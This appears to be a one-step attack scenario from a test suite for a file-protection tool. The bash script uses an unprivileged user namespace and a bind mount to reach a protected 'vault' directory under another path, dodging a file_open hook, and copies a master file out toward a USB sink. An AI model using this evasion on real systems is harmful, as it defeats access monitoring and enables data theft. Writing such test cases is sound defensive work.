#!/usr/bin/env bash
# technique: the collection is bound to another directory in a user namespace
# hooks: file_open
# lock: vault
# sink: usb

. attack.sh
mkdir "$ROOM/view"
# shellcheck disable=SC2016 # for the shell inside
unshare -Urm bash -c 'mount --bind "$MASTERS" "$ROOM/view" && cat "$ROOM/view/${MASTER##*/}" >"$COPY"'
